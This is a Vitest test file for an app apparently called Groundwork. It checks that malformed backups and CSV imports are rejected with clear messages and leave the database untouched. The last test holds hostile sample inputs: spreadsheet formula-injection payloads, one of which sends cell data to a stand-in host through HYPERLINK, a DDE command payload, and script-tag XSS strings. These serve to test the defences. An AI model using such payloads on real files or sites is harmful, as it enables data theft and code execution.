import { beforeEach, describe, expect, it } from 'vitest';
import type { GroundworkDB } from '../../../lib/db/db';
import { backupToJson, createBackup, MAX_BACKUP_BYTES } from '../../../lib/io/backup';
import { CsvError, decodeCsv, importPeople, peopleFromRows, readCsvTable, readCsvTableInSlices } from '../../../lib/io/csvImport';
import { readBackupFile } from '../../../lib/io/files';
import { restoreMerge, restoreReplace } from '../../../lib/io/restore';
import { freshDb, T0 } from '../../support/db';
import { blobOfSize, dump, seedFixture } from './support';

/**
 * Every kind of bad file gets a message the rep can act on, and the database stays exactly as it
 * was (a full dump before and after).
 */

let db: GroundworkDB;
let before: Record<string, unknown[]>;
let goodBackup: Record<string, unknown>;

beforeEach(async () => {
  db = freshDb();
  await seedFixture(db, 4);
  goodBackup = JSON.parse(backupToJson(await createBackup(db, T0))) as Record<string, unknown>;
  before = await dump(db);
});

const json = (value: unknown) => new Blob([JSON.stringify(value)]);
const data = () => structuredClone(goodBackup.data) as Record<string, Record<string, unknown>[]>;

/** Tries the whole restore path (read, check, then both kinds of restore) on the file. */
async function restoreFails(file: Blob, message: RegExp): Promise<void> {
  await expect(readBackupFile(file).then((backup) => restoreReplace(db, backup))).rejects.toThrow(message);
  await expect(readBackupFile(file).then((backup) => restoreMerge(db, backup))).rejects.toThrow(message);
  expect(await dump(db)).toEqual(before);
}

describe('restoring a bad file changes nothing', () => {
  it.each<[string, () => Blob, RegExp]>([
    ['an empty file', () => new Blob([]), /This file is empty\. Nothing was changed\./],
    ['whitespace only', () => new Blob(['  \n']), /This file is empty/],
    ['truncated JSON', () => new Blob([backupToJson(goodBackup as never).slice(0, 900)]), /cut short or damaged .* Nothing was changed\./],
    ['a CSV file', () => new Blob(['First Name,Last Name\nAna,Lima\n']), /not a Groundwork backup: it is not JSON/],
    ['a PNG image', () => new Blob([new Uint8Array([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 0, 0, 0, 13])]), /not a Groundwork backup: it is not JSON/],
    ['JSON from another program', () => json({ name: 'my-app', version: '1.0.0', dependencies: {} }), /JSON from another program, not a Groundwork backup/],
    ['a JSON array', () => json([1, 2, 3]), /JSON from another program/],
    ['an ideal customer profile file', () => json({ format: 'groundwork-ideal-customer-profile', version: 1, profile: {} }), /ideal customer profile, not a backup/],
    ['an unknown future version', () => json({ ...goodBackup, version: 7 }), /made by a newer Groundwork \(backup format 7/],
    ['no version', () => json({ ...goodBackup, version: 'one' }), /no readable version number/],
    [
      'wrong types',
      () => {
        const d = data();
        d.people![2]!.createdAt = 'yesterday';
        return json({ ...goodBackup, data: d });
      },
      /problem at people › 2 › createdAt \(Chidi Okafor\): Invalid input: expected number, received string/,
    ],
    [
      'a touch one past JavaScript’s dates (which used to blank the side panel)',
      () => {
        const d = data();
        d.touches![0]!.at = 8_640_000_000_000_001;
        return json({ ...goodBackup, data: d });
      },
      /problem at touches › 0 › at: Dates after 2200 are not kept/,
    ],
    [
      'a follow-up due in 1989',
      () => {
        const d = data();
        d.followUps![1]!.dueAt = Date.UTC(1989, 11, 31);
        return json({ ...goodBackup, data: d });
      },
      /problem at followUps › 1 › dueAt: Dates before 1990 are not kept/,
    ],
    [
      'a person created in the year 3000',
      () => {
        const d = data();
        d.people![1]!.createdAt = Date.UTC(3000, 0, 1);
        return json({ ...goodBackup, data: d });
      },
      /problem at people › 1 › createdAt \([^)]+\): Dates after 2200 are not kept/,
    ],
    [
      'a bad email address',
      () => {
        const d = data();
        d.people![0]!.emails = ['not an address'];
        return json({ ...goodBackup, data: d });
      },
      /problem at people › 0 › emails › 0 \(Inès Marchetti-Hale\)/,
    ],
    [
      'a table missing',
      () => {
        const { touches: _t, ...d } = data();
        return json({ ...goodBackup, data: d });
      },
      /problem at touches: .*expected array/,
    ],
    [
      'duplicate ids',
      () => {
        const d = data();
        d.people!.push({ ...d.people![0]!, linkedinUrl: 'https://www.linkedin.com/in/someone-else/' });
        return json({ ...goodBackup, data: d });
      },
      /lists the person id “p-ines” twice \(people › 0 and people › 4\)/,
    ],
    [
      'two people with one LinkedIn profile',
      () => {
        const d = data();
        d.people!.push({ ...d.people!.find((p) => p.name === 'Marcus Lindqvist')!, id: 'p-copy' });
        return json({ ...goodBackup, data: d });
      },
      /lists the LinkedIn profile “https:\/\/www\.linkedin\.com\/in\/marcus-lindqvist\/” twice/,
    ],
    [
      'a profile address that is no profile',
      () => {
        const d = data();
        d.people![0]!.linkedinUrl = 'https://www.linkedin.com/in/';
        return json({ ...goodBackup, data: d });
      },
      /problem at people › 0 › linkedinUrl \(Inès Marchetti-Hale\): “https:\/\/www\.linkedin\.com\/in\/” is not a LinkedIn profile address\. Nothing was changed\./,
    ],
    [
      'one LinkedIn profile spelled two ways',
      () => {
        const d = data();
        const marcus = d.people!.find((p) => p.name === 'Marcus Lindqvist')!;
        d.people!.push({ ...marcus, id: 'p-copy', linkedinUrl: 'https://www.linkedin.com/in/Marcus-Lindqvist/?trk=people' });
        return json({ ...goodBackup, data: d });
      },
      /lists the LinkedIn profile “https:\/\/www\.linkedin\.com\/in\/marcus-lindqvist\/” twice/,
    ],
    [
      'a touch source key twice',
      () => {
        const d = data();
        const keyed = d.touches!.find((t) => t.sourceKey)!;
        d.touches!.push({ ...keyed, id: 't-copy' });
        return json({ ...goodBackup, data: d });
      },
      /lists the touch source key .* twice/,
    ],
    ['a file over the size limit', () => blobOfSize(MAX_BACKUP_BYTES + 1, '{"format":"groundwork-backup"'), /Groundwork restores backups up to 256\.0 MB/],
  ])('%s', async (_label, file, message) => {
    await restoreFails(file(), message);
  });

  it('a 200 MB file that is not a backup is refused from its first bytes', async () => {
    const big = new Blob([new Uint8Array(200 * 1024 * 1024).fill(0x61)]);
    const started = performance.now();
    await restoreFails(big, /not a Groundwork backup \(it does not start like one\)/);
    expect(performance.now() - started).toBeLessThan(5000);
  });

  it('a failure while writing rolls the whole restore back', async () => {
    const backup = await readBackupFile(json({ ...goodBackup, data: { ...data(), touches: [] } }));
    const other = freshDb();
    await seedFixture(other, 4);
    const otherBefore = await dump(other);
    // Fail the last write of the transaction: everything before it must be undone too.
    other.followUps.hook('creating', () => {
      throw new Error('disk full');
    });
    other.followUps.hook('updating', () => {
      throw new Error('disk full');
    });
    const shuffled = { ...backup, data: { ...backup.data, followUps: backup.data.followUps.map((f) => ({ ...f, id: `${f.id}-new` })) } };
    await expect(restoreMerge(other, shuffled)).rejects.toThrow(/disk full/);
    await expect(restoreReplace(other, shuffled)).rejects.toThrow(/disk full/);
    expect(await dump(other)).toEqual(otherBefore);
  });
});

describe('importing a bad CSV changes nothing', () => {
  const bytes = (text: string) => new TextEncoder().encode(text);

  async function importFails(input: Uint8Array, message: RegExp): Promise<void> {
    const attempt = async (sliced: boolean) => {
      const text = decodeCsv(input).text;
      // The options page reads in slices (tiny ones here, so every case spans several).
      const table = sliced ? await readCsvTableInSlices(text, { sliceBytes: 16 }) : readCsvTable(text);
      const { people } = peopleFromRows(table.rows, table.mapping);
      await importPeople(db, people);
    };
    for (const sliced of [false, true]) {
      await expect(attempt(sliced)).rejects.toThrow(CsvError);
      await expect(attempt(sliced)).rejects.toThrow(message);
    }
    expect(await dump(db)).toEqual(before);
  }

  it.each<[string, Uint8Array, RegExp]>([
    ['an empty file', new Uint8Array(), /This file is empty/],
    ['blank lines only', bytes('\n\n  \n'), /This file is empty/],
    ['an Excel workbook', new Uint8Array([0x50, 0x4b, 0x03, 0x04, 0x14, 0, 6, 0]), /Excel workbook .* save it as “CSV UTF-8”/],
    ['binary data', new Uint8Array([0x89, 0x50, 0x4e, 0x47, 0, 0, 0, 13, 0x49, 0x48]), /not a text file/],
    ['a backup picked by mistake', bytes('{"format":"groundwork-backup","version":1}'), /JSON file, not CSV/],
    ['a header and no rows', bytes('First Name,Last Name,URL,Email Address\n'), /header but no rows/],
    ['one column that is really several', bytes('Name:Email:Company\nAna:ana@x.example:Acme\n'), /could not find columns/],
    ['an unclosed quote', bytes('Name,Email\n"Ana,ana@x.example\nBo,bo@x.example\n'), /quoted value never ends/],
    ['no identity column', bytes('Name,Company\nAna Lima,Acme\n'), /Map a column to “LinkedIn URL” or “Email”/],
  ])('%s', async (_label, input, message) => {
    await importFails(input, message);
  });

  it('a file over 50 MB is refused before it is parsed', async () => {
    await importFails(new Uint8Array(50 * 1024 * 1024 + 1).fill(0x61), /imports CSV files up to 50 MB/);
  });

  it('rows with formula injections or script payloads in names are refused, each with its reason', async () => {
    const csv = [
      'Name,Email,Company',
      '=HYPERLINK("http://evil.example?x="&A1;"Click"),a@x.example,Acme',
      '+cmd|\' /C calc\'!A0,b@x.example,Acme',
      '-2+3,c@x.example,Acme',
      '@SUM(1+1),d@x.example,Acme',
      '<script>alert(1)</script>,e@x.example,Acme',
      '<img src=x onerror=alert(1)>,f@x.example,Acme',
      'Ana Lima,g@x.example,<script>alert(1)</script>',
      'Bo Chen,not-an-address,Acme',
    ].join('\n');
    const table = readCsvTable(decodeCsv(bytes(csv)).text);
    const { people, skipped } = peopleFromRows(table.rows, table.mapping);
    expect(people).toEqual([]);
    expect(skipped).toEqual([
      { row: 1, reason: 'the name looks like a spreadsheet formula' },
      { row: 2, reason: 'the name looks like a spreadsheet formula' },
      { row: 3, reason: 'the name looks like a spreadsheet formula' },
      { row: 4, reason: 'the name looks like a spreadsheet formula' },
      { row: 5, reason: 'the name contains HTML or script' },
      { row: 6, reason: 'the name contains HTML or script' },
      { row: 7, reason: 'the company, title or location contains HTML or script' },
      { row: 8, reason: '“not-an-address” is not an email address and there is no LinkedIn URL' },
    ]);
    await importPeople(db, people);
    expect(await dump(db)).toEqual(before);
  });
});
